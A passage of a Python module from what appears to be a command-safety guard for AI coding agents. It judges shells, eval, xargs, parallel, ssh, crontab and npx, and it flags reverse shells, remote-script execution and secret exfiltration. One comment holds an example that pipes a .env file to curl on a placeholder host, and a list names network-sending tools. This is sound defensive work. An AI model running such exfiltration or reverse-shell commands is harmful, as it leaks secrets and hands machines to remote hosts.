"""Commands that run other commands: shells, eval, source, xargs, parallel, ssh."""
from __future__ import annotations

import fnmatch
import glob
import os
import posixpath
import re
import shlex
import shutil
from typing import TYPE_CHECKING

from ..model import BlastRadius, Verdict
from ..protect import agent_of_program, protect_data
from ..web import metadata_in_text
from .deletes import DELETERS, empties_files, find_delete, find_listing
from .findings import Finding, allow, ask, deny, with_rule
from .generated import TEXT_FILTERS, run_process_input
from .invocation import UNKNOWN_WORD, Invocation
from .parse import SimpleCommand
from .projectfiles import find_upward, load_package, read_text
from .words import DYN, Scope, Word, decode_ansi_c
from .toolcode import LOCAL_BINS
from .remote_access import network_client

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Run

RUNNER_NAMES = frozenset({"xargs", "parallel", "ssh", "eval", "source", ".", "trap"})
MAX_ITEMS = 16  # xargs / parallel items we expand before treating the rest as unknown


def judge(run: "Run", inv: "Invocation") -> list[Finding]:
    name = inv.name
    if name == "eval":
        return eval_(run, inv)
    if name in ("source", "."):
        return source(run, inv)
    if name == "xargs":
        return xargs(run, inv)
    if name == "parallel":
        return parallel(run, inv)
    if name == "ssh":
        return ssh(run, inv)
    if name == "trap":
        return trap(run, inv)
    return shell(run, inv)


def trap(run: "Run", inv: "Invocation") -> list[Finding]:
    """trap 'CMD' EXIT: CMD runs later, when the signal comes; judge it now."""
    args = [w for w in inv.words if w.value != "--"]
    if not args or args[0].value in ("-l", "-p", "-", "") or len(args) < 2:
        return [allow("trap lists or resets handlers", "shell-state", rule="exec.trap")]
    if args[0].dynamic:
        return [_dynamic_script(args[0], "trap")]
    run.nested(args[0].value, inv, "trap")
    return [allow("trap sets a handler (judged on its own)", "shell-state", rule="exec.trap")]


def _label(inv: "Invocation", what: str) -> str:
    return f"{inv.cmd.via} › {what}" if inv.cmd.via else what


def run_synthetic(run: "Run", inv: "Invocation", argv: list[Word], label: str, scope: Scope | None = None) -> None:
    """Judge a command that `inv` starts (xargs, parallel, find -exec children)."""
    synthetic = SimpleCommand(argv, " ".join(w.display() for w in argv), inv.cmd.span, (scope or inv.scope).copy(),
                              _label(inv, label), depth=inv.cmd.depth + 1,
                              items_from=inv.cmd.stdin_from if label == "xargs" else None)
    run.judge(synthetic, inv.cmd.depth + 1)


# -- shells -------------------------------------------------------------------------------
def shell(run: "Run", inv: "Invocation") -> list[Finding]:
    name = inv.name
    words = inv.words
    value_options = run.tax.shell_value_options | {"--rcfile", "--init-file"}
    command_mode = False
    reads_stdin = False
    no_exec = False
    i = 0
    while i < len(words):
        arg = words[i].value
        if arg in ("--", "-"):
            i += 1
            reads_stdin = reads_stdin or arg == "-"
            break
        if arg in value_options:
            i += 2
            continue
        if arg in ("--version", "--help") and not command_mode:
            return [allow(f"{name} {arg} only prints", "read-only", rule="exec.shell")]
        if arg.startswith("--"):
            i += 1
            continue
        if arg[:1] in "-+" and len(arg) > 1:
            letters = arg[1:]
            command_mode |= "c" in letters
            reads_stdin |= "s" in letters
            no_exec |= arg[0] == "-" and "n" in letters
            i += 1
            if ("o" in letters or "O" in letters) and letters[-1] in "oO":
                i += 1
            continue
        break
    rest = words[i:]
    if no_exec:
        return [allow(f"{name} -n only checks the syntax, it runs nothing", "read-only", rule="exec.shell")]
    if command_mode:
        if not rest:
            return [allow(f"{name} -c with no command", "read-only", rule="exec.shell")]
        script = rest[0]
        if script.dynamic:
            if not script.fully_dynamic:  # bash -c "kubectl delete namespace $NS": the known part is judged
                run.nested(script.value.replace(DYN, UNKNOWN_WORD), inv, f"{name} -c", inv.scope.copy())
            return [_dynamic_script(script, f"{name} -c")]
        scope = inv.scope.copy()
        scope.arrays["@"] = [w.value for w in rest[2:]]  # sh -c 'script' $0 $1 …
        if len(rest) > 1:
            scope.variables["0"] = rest[1].value
        run.nested(script.value, inv, f"{name} -c", scope)
        return []
    if rest and not reads_stdin and rest[0].value not in _STDIN_FILES:
        index = inv.words.index(rest[0])
        if index in inv.process_inputs():
            return run_process_input(run, inv, index, f"{name} <(…)")
        return [run.script_run(inv.as_script(rest[0], rest[1:]), name)]
    return stdin_script(run, inv, name)


_HARMLESS_CATEGORIES = frozenset({"read-only", "git", "build-test", "interpreter"})
_STDIN_FILES = frozenset({"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "-"})


def stdin_script(run: "Run", inv: "Invocation", name: str) -> list[Finding]:
    stream = run.stdin_source(inv.cmd)
    kind = stream.kind
    producer = inv.cmd.stdin_from
    consumer = inv.cmd.stdout_to
    if any(c is not None and network_client(c, run.tax) for c in (producer, consumer)):
        return [deny(f"{name} wired to a network socket is a reverse shell: it hands this machine to a remote host",
                     "network", "exec.reverse-shell")]
    if kind == "text" and stream.text is not None:
        before = len(run.result.findings)
        run.nested(stream.text, inv, f"stdin › {name}")
        # decoded and judged in full: if every part of it is allowed, the encoding hid nothing bad
        harmless = all(f.verdict is Verdict.ALLOW and f.category in _HARMLESS_CATEGORIES
                       for f in run.result.findings[before:])
        if stream.obfuscated and not harmless:
            return [ask(f"pipes encoded text into {name}: what runs is hidden until it is decoded", "dynamic-exec",
                        BlastRadius.HIGH, "exec.obfuscated-script")]
        return []
    if kind == "network":
        return [ask(f"runs a script downloaded from the network ({name} reads it from a pipe)", "remote-exec",
                    BlastRadius.HIGH, "exec.remote-script")]
    if kind == "file":
        fed = run.fed_program(inv, "shell")
        return [fed or allow(f"{name} runs a script file", "build-test", rule="exec.shell")]
    if kind == "unknown":
        return [ask(f"{name} runs commands read from its input", "dynamic-exec", BlastRadius.HIGH,
                    "exec.stdin-script")]
    return [ask(f"{name} starts an interactive shell", "dynamic-exec", BlastRadius.LOW, "exec.interactive")]


def _dynamic_script(word: Word, what: str) -> Finding:
    if re.search(r"\b(curl|wget|fetch|http)\b", word.raw):
        return ask(f"{what} runs a script downloaded from the network", "remote-exec", BlastRadius.HIGH,
                   "exec.remote-script")
    return ask(f"{what} runs a script that is only known at run time", "dynamic-exec", BlastRadius.HIGH,
               "exec.dynamic-script")


def eval_(run: "Run", inv: "Invocation") -> list[Finding]:
    if not inv.words:
        return [allow("eval with nothing to run", "read-only", rule="exec.eval")]
    text = " ".join(w.value for w in inv.words)
    generator = re.fullmatch(r'\$\(\s*([\w.-]+)((?:\s+[\w.=-]+)*)\s*\)', " ".join(w.raw for w in inv.words).strip('"'))
    if generator and generator.group(1) in run.tax.env_generators:
        return [allow(f"eval of {generator.group(1)}'s output only sets environment variables", "shell-state",
                      rule="exec.eval")]
    if DYN in text:
        return [_dynamic_script(Word(text, " ".join(w.raw for w in inv.words)), "eval")]
    run.nested(text, inv, "eval")
    return []


def source(run: "Run", inv: "Invocation") -> list[Finding]:
    if not inv.words:
        return [allow("source with no file", "read-only", rule="exec.source")]
    if 0 in inv.process_inputs():
        return run_process_input(run, inv, 0, f"{inv.name} <(…)")
    target = inv.words[0]
    if target.value in _STDIN_FILES:
        return stdin_script(run, inv, inv.name)
    if target.dynamic:
        return [ask(f"{inv.name} runs a script whose name is only known at run time", "dynamic-exec",
                    BlastRadius.HIGH, "exec.source")]
    finding = run.script_run(inv.as_script(target, inv.words[1:]), inv.name)
    return [finding]


# -- xargs and parallel --------------------------------------------------------------------
_XARGS_VALUES = {"-a": "file", "--arg-file": "file", "-d": "delim", "--delimiter": "delim", "-E": "", "-I": "replace",
                 "-L": "", "-n": "", "--max-args": "", "-P": "", "--max-procs": "", "-s": "", "--max-chars": "",
                 "--process-slot-var": "", "--max-lines": ""}
_XARGS_OPTIONAL = {"-e", "-i", "-l", "--replace", "--eof"}


def xargs(run: "Run", inv: "Invocation") -> list[Finding]:
    words = inv.words
    replace_str: str | None = None
    arg_file = False
    arg_stream = None  # xargs -a <(echo /etc): the file's content is known
    arg_text: str | None = None  # xargs -a FILE: the file, read
    delimiter: str | None = None
    null = False
    i = 0
    while i < len(words):
        arg = words[i].value
        if not arg.startswith("-") or arg == "-":
            break
        if arg == "--":
            i += 1
            break
        name, eq, attached = arg.partition("=")
        if name in _XARGS_VALUES:
            value = attached if eq else (words[i + 1].value if i + 1 < len(words) else "")
            kind = _XARGS_VALUES[name]
            if kind == "file":
                arg_file = True
                if not eq and i + 1 in inv.process_inputs():
                    arg_stream = run.output_of(inv.process_inputs()[i + 1][-1])
                elif value and DYN not in value:  # xargs -a paths.txt: the file's lines, read here
                    arg_text = _item_file(run, inv, value)
            elif kind == "delim":
                delimiter = decode_ansi_c(value)
            elif kind == "replace":
                replace_str = value
            i += 1 if eq else 2
            continue
        if name in _XARGS_OPTIONAL:
            if name in ("-i", "--replace"):
                replace_str = attached or "{}"
            i += 1
            continue
        if arg[:2] in ("-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s") and len(arg) > 2 and not arg.startswith("--"):
            kind = _XARGS_VALUES.get(arg[:2], "")
            if kind == "file":
                arg_file = True
            elif kind == "delim":
                delimiter = decode_ansi_c(arg[2:])
            elif kind == "replace":
                replace_str = arg[2:]
            i += 1
            continue
        if arg.startswith("-i") and not arg.startswith("--"):
            replace_str = arg[2:] or "{}"
        null |= arg in ("-0", "--null")
        i += 1
    child = words[i:] or [Word.literal("echo")]
    if arg_stream is not None and arg_stream.kind == "text" and arg_stream.text is not None:
        items = [Word.literal(p) for p in arg_stream.text.split()][:MAX_ITEMS]
    elif arg_text is not None:
        items = _split_items(arg_text, delimiter, null)
    else:
        items = _input_items(run, inv, arg_file, delimiter, null)
    if _deleters_over_listing(run, inv, child):
        return []
    sender = posixpath.basename(child[0].value) if child else ""
    if sender in _SENDERS and not arg_file and run.stdin_source(inv.cmd).kind == "secret":
        # cat .env | base64 | xargs -I{} curl 'https://host/?d={}': the secrets go out as arguments
        return [deny(f"xargs hands secrets to {sender}, which sends them to another host", "secrets",
                     "net.exfiltration")]
    _run_children(run, inv, child, items, replace_str, "xargs")
    return []


_SENDERS = frozenset({"curl", "wget", "http", "https", "xh", "nc", "ncat", "socat", "ssh", "scp", "dig", "nslookup",
                      "host", "ping", "telnet", "aws", "gsutil", "gh"})


def _input_items(run: "Run", inv: "Invocation", from_file: bool, delimiter: str | None, null: bool) -> list[Word]:
    if from_file:
        return [Word(DYN, "<items from a file>")]
    listed = _listed_paths(inv.cmd.stdin_from)
    if listed is not None:
        return listed
    stream = run.stdin_source(inv.cmd)
    text = stream.text
    if stream.kind == "file":  # xargs … < targets.txt: the file's lines, read here
        redirected = [r for r in inv.cmd.redirects if r.op == "<" and r.fd in (None, 0) and r.target is not None]
        if redirected and not redirected[-1].target.dynamic:
            text = _item_file(run, inv, redirected[-1].target)
            if text is not None:
                return _split_items(text, delimiter, null)
    if stream.kind == "text" and text is not None:
        return _split_items(text, delimiter, null)
    producer = inv.cmd.stdin_from
    root = _find_root(producer) if producer is not None else None
    if root is not None:
        return [Word(root.value.rstrip("/") + "/" + DYN, root.raw + "/…")]
    return [Word(DYN, "<items from input>")]


def _item_file(run: "Run", inv: "Invocation", name: "str | Word") -> str | None:
    """The text of a file xargs reads its items from (size-capped), or None."""
    if inv.scope.remote:
        return None
    path = run.path(name if isinstance(name, Word) else Word.literal(name), inv).path
    return read_text(path) if path else None


def _split_items(text: str, delimiter: str | None, null: bool) -> list[Word]:
    if null:
        parts = text.split("\0")
    elif delimiter:
        parts = text.split(delimiter)
    else:
        parts = text.split()
    parts = [p.strip("\n") if delimiter else p for p in parts]
    parts = [p for p in parts if p]
    return [Word.literal(p) for p in parts[:MAX_ITEMS]] + ([Word(DYN, "…")] if len(parts) > MAX_ITEMS else [])


def _listed_paths(producer: SimpleCommand | None) -> list[Word] | None:
    """`ls -d /* | xargs …`: ls -d prints the paths it was given (globs and all)."""
    if producer is None or not producer.argv or posixpath.basename(producer.argv[0].value) != "ls":
        return None
    options = [w.value for w in producer.argv[1:] if w.value.startswith("-")]
    paths = [w for w in producer.argv[1:] if not w.value.startswith("-")]
    files = paths and all(w.glob or re.search(r"\.\w+$", w.value) for w in paths)  # ls *.log lists files
    if not files and not any("d" in o[1:] for o in options if not o.startswith("--")) and \
            "--directory" not in options:
        return None
    return paths or [Word.literal(".")]


def _find_root(producer: SimpleCommand) -> Word | None:
    """`find ROOT … | xargs rm`: each item is a path under ROOT."""
    if not producer.argv or producer.argv[0].value.rsplit("/", 1)[-1] not in ("find", "fd", "fdfind"):
        return None
    for w in producer.argv[1:]:
        if not w.value.startswith("-") and w.static:
            return w
        if w.value.startswith("-") and w.value not in ("-H", "-L", "-P"):
            break
    return Word.literal(".")


def _run_children(run: "Run", inv: "Invocation", child: list[Word], items: list[Word], replace_str: str | None,
                  label: str) -> None:
    head = child[0].value.rsplit("/", 1)[-1] if child else ""
    if head in run.tax.shells or head == "eval":
        run.add(ask(f"{label} hands its input to {head}: the input runs as commands", "dynamic-exec",
                    BlastRadius.MEDIUM, "exec.input-to-shell"))
    if replace_str:
        for item in items or [Word.literal("")]:
            argv = [Word(w.value.replace(replace_str, item.value), w.raw, w.quoted, w.glob) if replace_str in w.value
                    else w for w in child]
            run_synthetic(run, inv, argv, label)
        return
    run_synthetic(run, inv, child + items, label)


_PARALLEL_VALUES = {"-j", "--jobs", "-P", "--max-procs", "-S", "--sshlogin", "-d", "--delimiter", "-a", "--arg-file",
                    "-I", "--colsep", "-C", "-n", "--max-args", "-N", "--timeout", "--retries", "--joblog",
                    "--results", "--res", "--tmpdir", "--workdir", "--wd", "--env", "--tag-string", "--delay", "-L",
                    "--max-lines", "-s", "--max-chars", "-E", "--halt", "--memfree", "--load", "--basefile", "--bf",
                    "--return", "--transferfile", "--tf", "--sshloginfile", "--slf", "--termseq", "--shebang-wrap",
                    "--rpl", "--plus", "--limit", "--block", "--blocksize", "--recstart", "--recend",
                    "--cleanup", "--ctag", "--ctagstring"}
_PARALLEL_SEPARATORS = (":::", ":::+", "::::", "::::+")


def parallel(run: "Run", inv: "Invocation") -> list[Finding]:
    words = inv.words
    i = 0
    replace_str = "{}"
    quoted = False  # -q: the command's words are not re-parsed by a shell
    while i < len(words):
        arg = words[i].value
        if arg in _PARALLEL_SEPARATORS or not arg.startswith("-"):
            break
        quoted |= arg in ("-q", "--quote")
        if arg in ("--dry-run", "--dryrun"):
            return [allow("parallel --dry-run only prints the commands", "read-only", rule="exec.parallel")]
        name, eq, _ = arg.partition("=")
        if name in _PARALLEL_VALUES and not eq:
            if name == "-I" and i + 1 < len(words):
                replace_str = words[i + 1].value
            i += 2
            continue
        if name == "-I" and eq:
            replace_str = arg.partition("=")[2]
        i += 1
    command: list[Word] = []
    while i < len(words) and words[i].value not in _PARALLEL_SEPARATORS:
        command.append(words[i])
        i += 1
    items: list[Word] = []
    has_sources = False
    while i < len(words):
        separator = words[i].value
        i += 1
        has_sources = True
        while i < len(words) and words[i].value not in _PARALLEL_SEPARATORS:
            items.append(words[i] if separator.startswith(":::") and not separator.startswith("::::")
                         else Word(DYN, "<items from a file>"))
            i += 1
    if not has_sources:
        items = _input_items(run, inv, False, None, False)
    if not command:
        for item in items:
            if item.dynamic:
                run.add(ask("parallel runs command lines that are only known at run time", "dynamic-exec",
                            BlastRadius.HIGH, "exec.parallel"))
            else:
                run.nested(item.value, inv, "parallel")
        return [] if items else [allow("parallel with nothing to run", "read-only", rule="exec.parallel")]
    if len(command) == 1 and not quoted and any(c.isspace() for c in command[0].value):
        # one word with spaces: parallel hands the composed line to a shell
        for item in items[:MAX_ITEMS] or [Word.literal("")]:
            line = command[0].value
            line = line.replace(replace_str, item.value) if replace_str in line else f"{line} {item.value}"
            if DYN in line:
                run.add(ask("parallel runs a command line built at run time", "dynamic-exec", BlastRadius.HIGH,
                            "exec.parallel"))
            else:
                run.nested(line, inv, "parallel")
        return []
    if any(replace_str in w.value or re.search(r"\{[./#%]*\d*\}", w.value) for w in command):
        for item in items[:MAX_ITEMS] or [Word.literal("")]:
            argv = [Word(re.sub(r"\{[./#%]*\d*\}", lambda _m: item.value, w.value.replace(replace_str, item.value)),
                         w.raw, w.quoted, w.glob) for w in command]
            run_synthetic(run, inv, argv, "parallel")
    else:
        run_synthetic(run, inv, command + items[:MAX_ITEMS], "parallel")
    return []


# -- ssh -----------------------------------------------------------------------------------
_SSH_VALUES = set("BbcDEeFIiJLlmOopQRSWw")


def ssh(run: "Run", inv: "Invocation") -> list[Finding]:
    words = inv.words
    i = 0
    tunnel = False
    while i < len(words):
        arg = words[i].value
        if arg == "--":
            i += 1
            break
        if not arg.startswith("-") or len(arg) < 2:
            break
        option = arg[2:] if arg.startswith("-o") and len(arg) > 2 else \
            (words[i + 1].value if arg == "-o" and i + 1 < len(words) else "")
        key, _, value = option.partition("=")
        if key.lower() in ("proxycommand", "localcommand", "knownhostscommand") and value and value != "none":
            run.nested(value, inv, f"ssh -o {key}")  # runs here, on this machine, before connecting
        letters = arg[1:]
        tunnel |= "N" in letters or "W" in letters  # -W host:port forwards stdio: no shell at the far end
        for j, c in enumerate(letters):
            if c in _SSH_VALUES:
                if j == len(letters) - 1:
                    i += 1
                break
        i += 1
    if i >= len(words):
        return [allow("ssh with no host only prints usage", "read-only", rule="exec.ssh")]
    if any(w.value in ("-G", "-V", "-Q") for w in words[:i]):
        return [allow("ssh -G/-V/-Q only prints configuration", "read-only", rule="exec.ssh")]
    host = words[i].display()
    remote = words[i + 1:]
    if not remote and (words[i].value.startswith("git@") or any(
            w.value == "-l" and nxt.value == "git" for w, nxt in zip(words[:i], words[1:i + 1]))):
        # ssh -T git@github.com: a git host's shell only greets; this checks the SSH login
        return [allow(f"ssh {host} only checks the SSH login to a git host", "read-only", rule="exec.ssh")]
    if not remote:
        if any(w.value.startswith("-R") or (w.value.startswith("-") and not w.value.startswith("--")
                                            and "R" in w.value[1:2]) for w in words[:i]):
            return [ask(f"ssh -R opens this machine to {host} (a reverse tunnel)", "network", BlastRadius.MEDIUM,
                        "exec.ssh")]
        if tunnel:
            return [allow(f"ssh -N only opens a tunnel to {host}", "network", rule="exec.ssh")]
        return [ask(f"ssh opens a remote shell on {host}", "remote-exec", BlastRadius.MEDIUM, "exec.ssh")]
    text = " ".join(w.value for w in remote)
    if DYN in text:
        return [ask(f"ssh runs a command built at run time on {host}", "remote-exec", BlastRadius.HIGH, "exec.ssh")]
    if _this_machine(words[i].value):  # the same machine (the same files, the same guard): judged as here
        scope = Scope(inv.scope.home, inv.scope.home, project=inv.scope.project)
        run.nested(text, inv, f"ssh {host}", scope)
        return [allow(f"ssh runs a command on this machine ({host}), judged as if run here", "remote-exec",
                      rule="exec.ssh")]
    scope = Scope(None, "~", {}, set(), remote=True)  # the remote user's home: only ever "~"
    with run.feeding(f"{inv.cmd.via} › ssh {host}" if inv.cmd.via else f"ssh {host}", inv.cmd):
        run.nested(text, inv, f"ssh {host}", scope)
    return [allow(f"ssh runs a command on {host} (judged on its own)", "remote-exec", rule="exec.ssh")]


_LOOPBACK_NAMES = {"localhost", "localhost.localdomain", "ip6-localhost", "ip6-loopback", "0", "0.0.0.0", "::1",
                   "[::1]", "::", "127.1"}


def _this_machine(target: str) -> bool:
    """Is an ssh target (`[user@]host[:port]`) this machine? Loopback in any spelling, or its own name."""
    import socket

    host = target.rsplit("@", 1)[-1].lower()
    if host.startswith("ssh://"):
        host = host[6:].split("/", 1)[0]
    if host.count(":") == 1:
        host = host.split(":", 1)[0]
    if host in _LOOPBACK_NAMES or host.startswith("127.") or host.endswith(".localhost"):
        return True
    try:
        name = socket.gethostname().lower()
    except OSError:
        return False
    return bool(name) and host in (name, name.split(".", 1)[0])


# -- shell state ----------------------------------------------------------------------------
def declaration(run: "Run", inv: "Invocation") -> list[Finding]:
    return [allow(f"{inv.name} sets shell variables", "shell-state", rule="exec.declaration")]


def alias(run: "Run", inv: "Invocation") -> list[Finding]:
    """`alias ll='ls -la'`, `alias gs='git status'`: a new name, or one read-only command for another, changes
    nothing an agent relies on; an alias that changes what a command name runs (`alias git='git --no-verify'`,
    `alias ls=rm`) asks (the taxonomy). What an alias runs is judged where it is used."""
    for w in inv.words:
        name, eq, body = w.value.partition("=")
        if not eq:
            continue
        first = body.split(None, 1)[0] if body.split() else ""
        if w.dynamic or DYN in body or not first:
            return []
        known = name in run.tax.safe or name in run.tax.commands or name in run.tax.builtins or \
            name in run.tax.interpreters or name in run.tax.shells or shutil.which(name) is not None
        plain = first in run.tax.safe and name in run.tax.safe and first != name and \
            not re.search(r"[|;&<>`$()]", body)
        if known and not plain:  # `alias ll='ls -la'`: one read-only command for another; an override asks
            return []
    return [allow(f"{inv.name} names a command for this shell", "shell-state", rule="exec.alias")]


def crontab(run: "Run", inv: "Invocation") -> list[Finding]:
    """crontab installing jobs: each job's command is judged as if it ran now."""
    args = inv.args
    if any(a in ("-l", "--list") for a in args):
        return [allow("crontab -l only lists jobs", "process", rule="exec.crontab")]
    if any(a in ("-r", "--remove") for a in args):
        return [ask("crontab -r deletes every scheduled job", "process", BlastRadius.HIGH, "exec.crontab")]
    if any(a in ("-e", "--edit") for a in args):
        return [ask("crontab -e edits scheduled jobs", "process", BlastRadius.MEDIUM, "exec.crontab")]
    files = [w for w in inv.words if not w.value.startswith("-") or w.value == "-"]
    if files and files[0].value != "-":
        return [ask(f"crontab {files[0].display()} replaces the scheduled jobs with a file's", "process",
                    BlastRadius.MEDIUM, "exec.crontab")]
    stream = run.stdin_source(inv.cmd)
    if stream.kind == "text" and stream.text is not None:
        for line in stream.text.splitlines():
            job = _cron_command(line)
            if job and DYN not in job:
                run.nested(job, inv, "crontab job")
    return [ask("crontab installs scheduled jobs (they run later, unattended)", "process", BlastRadius.MEDIUM,
                "exec.crontab")]


def _cron_command(line: str) -> str | None:
    line = line.strip()
    if not line or line.startswith("#") or re.match(r"^[A-Za-z_][A-Za-z0-9_]*\s*=", line):
        return None
    if line.startswith("@"):
        parts = line.split(None, 1)
        return parts[1] if len(parts) > 1 else None
    parts = line.split(None, 5)
    return parts[5] if len(parts) == 6 else None


_KNOWN_PACKAGE_TOOLS = frozenset({"tsc", "prettier", "eslint", "jest", "vitest", "mocha", "ava", "playwright", "cypress",
                                  "tsx", "ts-node", "esbuild", "vite", "webpack", "rollup", "parcel", "turbo", "nx",
                                  "lerna", "biome", "stylelint", "standard", "xo", "c8", "nyc", "knip", "depcheck",
                                  "madge", "typedoc", "jsdoc", "storybook", "next", "nuxt", "astro", "svelte-kit",
                                  "create-react-app", "degit", "serve", "http-server", "concurrently", "npm-run-all",
                                  "prisma", "drizzle-kit", "wrangler", "tailwindcss", "postcss", "sass", "node-gyp",
                                  "rimraf", "mkdirp", "cross-env", "dotenv", "husky", "lint-staged", "commitlint",
                                  "semantic-release", "changeset", "np", "release-it", "vercel", "netlify", "firebase",
                                  "expo", "react-native", "ng", "vue-cli-service", "remix", "gatsby", "eleventy"})


def kill(run: "Run", inv: "Invocation") -> list[Finding]:
    """kill $! / kill %1 / kill "$PID" (PID=$!): the command stops a job it started itself."""
    operands = [w for w in inv.words if not w.value.startswith("-")]
    if operands and all(w.raw.strip('"') in ("$!", "${!}") or w.value.startswith("%") or
                        inv.scope.origins.get(w.raw.strip('"${}')) == "$!" for w in operands):
        return [allow("kill stops a job this command started", "process", rule="exec.kill-own-job")]
    return []


def npx(run: "Run", inv: "Invocation") -> list[Finding]:
    """npx PKG ARGS: run PKG's command; a tool we know is judged as itself."""
    words = inv.words
    i = 0
    fetches = False
    while i < len(words):
        arg = words[i].value
        if arg in ("-c", "--call") and i + 1 < len(words):
            run.nested(words[i + 1].value, inv, f"{inv.name} -c")
            return []
        if arg in ("-p", "--package") and i + 1 < len(words):
            fetches = True
            i += 2
            continue
        if arg == "--":
            i += 1
            break
        if not arg.startswith("-"):
            break
        fetches |= arg in ("-y", "--yes") or arg.startswith("--package=")
        i += 1
    if i >= len(words):
        return [allow(f"{inv.name} with no package", "read-only", rule="exec.npx")]
    package = words[i].value
    name = package.rsplit("/", 1)[-1].split("@")[0] if not package.startswith("@") else \
        package.split("/", 1)[-1].split("@")[0]
    versioned = "@" in package.lstrip("@")
    agent = agent_of_program(package.rsplit("@", 1)[0] if versioned else package)
    if agent is not None:  # npx @openai/codex --yolo: the agent, however it is fetched
        agent_program = protect_data().agent_programs[agent]["programs"][0]
        findings = run.judge_invocation(Invocation(agent_program, words[i + 1:], inv.cmd, inv.scope, inv.privileged,
                                                   agent_program))
        if any(f.verdict is Verdict.DENY for f in findings):
            return findings
    installed = not versioned and not fetches and not inv.scope.remote and \
        (find_upward(inv.scope.cwd, (f"node_modules/.bin/{name}",)) is not None or
         _declared_dependency(run, inv.scope.cwd, name))
    scope = inv.scope.copy()
    scope.facts[LOCAL_BINS] = inv.scope.cwd or ""  # npx runs node_modules/.bin/NAME when the project has it
    if installed and name not in _KNOWN_PACKAGE_TOOLS:  # the project's own dependency: nothing is downloaded
        findings = run.judge_invocation(Invocation(name, words[i + 1:], inv.cmd, scope, inv.privileged, name))
        return [f for f in findings if f.rule not in ("shell.unknown", "shell.not-installed")] or \
            [allow(f"{inv.name} {name} runs the project's installed {name}", "build-test", rule="exec.npx")]
    if name in _KNOWN_PACKAGE_TOOLS and not versioned and not fetches:
        findings = run.judge_invocation(Invocation(name, words[i + 1:], inv.cmd, scope, inv.privileged, name))
        return [f for f in findings if f.rule != "shell.unknown"] or \
            [allow(f"{inv.name} {name} runs the project's {name}", "build-test", rule="exec.npx")]
    program = _program_of_package(run, package.rsplit("@", 1)[0] if versioned else package)
    if program is not None and "--package" not in (w.value for w in words[:i]) and \
            "-p" not in (w.value for w in words[:i]) and not any(w.value.startswith("--package=") for w in words[:i]):
        # npx eas-cli whoami: a well-known CLI fetched under its own name is judged as the command it is
        findings = run.judge_invocation(Invocation(program, words[i + 1:], inv.cmd, scope, inv.privileged, program))
        if findings and all(f.rule not in ("shell.unknown", "shell.not-installed") for f in findings):
            return findings
    fetched = ask(f"{inv.name} {package} may download and run a package", "package", BlastRadius.LOW, "exec.npx")
    # what it downloads still runs as itself: `npx supabase db reset --linked` is supabase's reset
    as_tool = run.judge_invocation(Invocation(name, words[i + 1:], inv.cmd, inv.scope, inv.privileged, name)) \
        if re.fullmatch(r"[\w.-]+", name) else []
    known = [f for f in as_tool if f.rule not in ("shell.unknown", "shell.not-installed")]
    rank = (fetched.verdict.restrictiveness, fetched.blast_radius.severity)
    return [f for f in known if (f.verdict.restrictiveness, f.blast_radius.severity) > rank] or [fetched]


def _program_of_package(run: "Run", package: str) -> str | None:
    """The command a well-known npm package provides (`eas-cli` → eas, taxonomy npm_programs), or None."""
    for program, provider in run.tax.npm_programs.items():
        if provider == package:
            return program
    return None


def _declared_dependency(run: "Run", cwd: str | None, program: str) -> bool:
    """Does the project's package.json depend on the package that provides `program` (`npx cdk` in a
    project with aws-cdk among its devDependencies runs the project's own cdk, once installed)?"""
    found = find_upward(cwd, ("package.json",))
    package = load_package(found) if found else None
    if package is None:
        return False
    provider = run.tax.npm_programs.get(program, program)
    if any(isinstance(deps, dict) and provider in deps
           for deps in (package.raw.get(k) for k in ("dependencies", "devDependencies", "optionalDependencies"))):
        return True
    # the project's own scripts run it (`"build": "wxt build"`): a bin of its dependencies, wherever they are listed
    scripts = package.raw.get("scripts")
    return isinstance(scripts, dict) and any(
        isinstance(text, str) and any(part.split()[:1] == [program] for part in re.split(r"&&|\|\||;|\|", text))
        for text in scripts.values())


_RUNS_A_PACKAGE = {"npm": ("exec", "x"), "pnpm": ("dlx",), "yarn": ("dlx",), "bun": ("x",)}


def npm_exec(run: "Run", inv: "Invocation") -> list[Finding]:
    """`npm exec`, `npm x`, `pnpm dlx`, `yarn dlx` and `bun x` are npx; every other subcommand is left to
    the package manager's analyzer and the taxonomy."""
    words = inv.words
    i = 0
    while i < len(words) and words[i].value.startswith("-"):
        i += 1
    if i < len(words) and words[i].value in _RUNS_A_PACKAGE.get(inv.name, ()):
        return npx(run, inv.__class__(f"{inv.name} {words[i].value}", words[i + 1:], inv.cmd, inv.scope,
                                      inv.privileged, inv.written_name))
    return []


def _deleters_over_listing(run: "Run", inv: "Invocation", child: list[Word]) -> bool:
    """`find . -type f | xargs rm`, `ls | grep -v keep | xargs rm -rf`: judge the delete of what was
    listed, as find -exec rm would be (everything under the root unless the listing was filtered)."""

    emptier = empties_files(child)
    if not child or posixpath.basename(child[0].value) not in DELETERS and not emptier:
        return False
    producer, narrowed = inv.cmd.stdin_from, False
    while producer is not None and producer.argv and posixpath.basename(producer.argv[0].value) in TEXT_FILTERS:
        args = [w.value for w in producer.argv[1:]]
        name = posixpath.basename(producer.argv[0].value)
        negative = name == "grep" and any(a.startswith("-") and not a.startswith("--") and "v" in a or
                                           a == "--invert-match" for a in args)
        narrowed |= not negative and name in ("grep", "head", "tail", "sed", "awk")
        producer = producer.stdin_from
    listing = find_listing(producer) if producer is not None else None
    if listing is None:
        return False
    roots, filtered = listing
    if emptier and (filtered or narrowed):
        return False  # a chosen few files emptied (logs): judged as the writes they are
    for finding in find_delete(run, inv, roots, filtered or narrowed, f"… | xargs {emptier or 'rm'}"):
        run.add(with_rule(finding, "exec.xargs"))
    return True




# cloud CLIs' remote shells: (program, subcommands, the options that carry the command run there)
_REMOTE_SHELLS = {"gcloud": (("compute", "ssh"), ("--command",)), "fly": (("ssh", "console"), ("-C", "--command")),
                  "flyctl": (("ssh", "console"), ("-C", "--command")), "forge": (("command",), ("--command",))}
_APP_SHELLS = frozenset({"fly", "flyctl", "forge", "heroku"})
# PaaS runs whose command is the words after the subcommand: heroku run [-a APP] CMD…
_REMOTE_RUNS = {"heroku": ("run", frozenset({"-a", "--app", "-s", "--size", "-e", "--env", "-r", "--remote", "--type",
                                             "-x", "--exit-code"}))}


def gcloud_ssh(run: "Run", inv: "Invocation") -> list[Finding]:
    """gcloud compute ssh VM --command CMD, fly ssh console -C CMD: CMD runs on the remote machine (judged as on
    another machine)."""
    args = inv.args
    if inv.name in _REMOTE_RUNS:
